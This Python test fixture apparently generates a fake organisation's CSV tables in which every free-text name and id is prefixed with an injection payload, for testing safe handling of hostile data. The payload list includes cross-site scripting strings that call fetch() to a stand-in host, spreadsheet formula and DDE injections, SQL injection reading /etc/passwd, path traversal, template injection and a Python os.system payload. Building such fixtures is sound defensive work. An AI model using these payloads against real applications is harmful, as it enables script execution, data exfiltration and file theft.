"""An organisation whose every name, id and text is an attack: on browsers, spreadsheets, terminals, shells and templates."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import cycle
from pathlib import Path

import pandas as pd

from pmo_analysis.contract.tables import TABLE
from pmo_analysis.intake.demo import write_demo

OUTSIDE = "hostile.example"
MARK = f"window.__mark=1,document.title='owned',fetch('http://{OUTSIDE}/hit')"
SCRIPT = f"<script>{MARK}</script>"
FORMULA = f'=HYPERLINK("http://{OUTSIDE}/?x="&A1,"click")'
ANSI = "\x1b]0;owned\x07\x1b[2J\x1b[31mred"
ARABIC, EMOJI = "إدارة المشتريات", "🚀 Rocket team"
LONG = ("Directorate for the coordination of everything " * 7)[:300]
LATEX = f"$\\href{{javascript:{MARK}}}{{x}}$ \\(\\alpha\\) $$\\frac{{$$ $\\frac{{$"
SECRET = "Xq7secret"  # in whatever nobody may read: comments, and the names of people
ATTACKS = (
    SCRIPT,
    LATEX,
    f'"><img src=x onerror="{MARK}">',
    FORMULA,
    ANSI,
    f"</td></table></div></script></style></textarea></title><svg/onload={MARK}>",
    f"[click](javascript:{MARK}) ![i](http://{OUTSIDE}/md.png) **bold** `code` <http://{OUTSIDE}>",
    f'<a href="javascript:{MARK}" autofocus onfocus="{MARK}" onmouseover="{MARK}">x</a>',
    f"<iframe srcdoc='<script>parent.__mark=1</script>'></iframe><object data='http://{OUTSIDE}/o'></object>",
    f"<style>@import 'http://{OUTSIDE}/s.css'</style><link rel=stylesheet href=http://{OUTSIDE}/l>",
    f"<base href=//{OUTSIDE}><meta http-equiv=refresh content='0,url=http://{OUTSIDE}'><form action=//{OUTSIDE}>",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "' OR 1=1) UNION SELECT * FROM read_text('/etc/passwd') --",
    "../../../../etc/passwd",
    "C:\\..\\..\\windows\\system32 CON.txt",
    "{0.__class__.__mro__} {{7*7}} {% for x in y %} ${7*7} #{7*7} %s%n%(x)d",
    '"), __import__("os").system("touch owned"), ("',
    "\u202egpj.exe\u202c zero\u200bwidth\u2066\ufeff\u00ad",
    "_hidden <!-- ]]> --> &lt,b&gt, &#x3c, \x7f\x85\u2028",
    ARABIC,
    EMOJI,
    LONG,
    f"<math><mtext><table><mglyph><style><img src=x onerror={MARK}>",
    f"`</code></pre>`<details open ontoggle={MARK}>",
)  # no semicolons: some columns hold several values in a cell
CUSTOMERS = len(ATTACKS)
_SAME = {"parent_id": "customer_id", "size_quoted": "size", "target_categories": "category", "stages": "stage"}


def write_hostile(folder: Path, *, quarters: int = 3) -> Path:
    """The invented organisation with an attack before every text that the contract leaves free; returns its folder."""
    write_demo(folder, customers=CUSTOMERS, quarters=quarters, seed=3)
    for path in [folder / "segment_schemes.json", *folder.glob("truth*")]:
        path.unlink(missing_ok=True)
    tables = {p.stem: pd.read_csv(p, dtype="str") for p in sorted(folder.glob("*.csv")) if p.stem in TABLE}
    renamed: dict[str, dict[str, str]] = {}
    for domain, values in _values(tables):
        known = renamed.setdefault(domain, {})
        new = [v for v in values if v not in known]
        known |= {v: f"{attack} {v}" for v, attack in zip(new, _cycled(len(known)), strict=False)}
    for name, table in tables.items():
        for column, domain in _free(name, table):
            table[column] = table[column].map(lambda v, d=domain: _put(v, renamed[d]), na_action="ignore")
        for column in {"person_id", "respondent_id"} & set(table):
            table[column] = SECRET + table[column]
        table.assign(comment=f"{SECRET} said in confidence").to_csv(folder / f"{name}.csv", index=False)
    return folder


def _values(tables: dict[str, pd.DataFrame]) -> Iterator[tuple[str, list[str]]]:
    for name, table in tables.items():
        for column, domain in _free(name, table):
            yield domain, sorted({item for cell in table[column].dropna() for item in cell.split(";")})


def _free(name: str, table: pd.DataFrame) -> list[tuple[str, str]]:
    """Columns of a table that hold whatever text, each with the domain that its values share with other columns."""
    free = [c.name for c in TABLE[name].columns if c.kind in ("id", "text") and not c.choices and c.name in table]
    return [(c, f"{name}.{c}" if c == "name" else _SAME.get(c, c)) for c in free]


def _put(cell: str, renamed: dict[str, str]) -> str:
    return ";".join(renamed[item] for item in cell.split(";"))


def _cycled(start: int) -> Iterator[str]:
    attacks = cycle(ATTACKS)
    for _ in range(start):
        next(attacks)
    return attacks
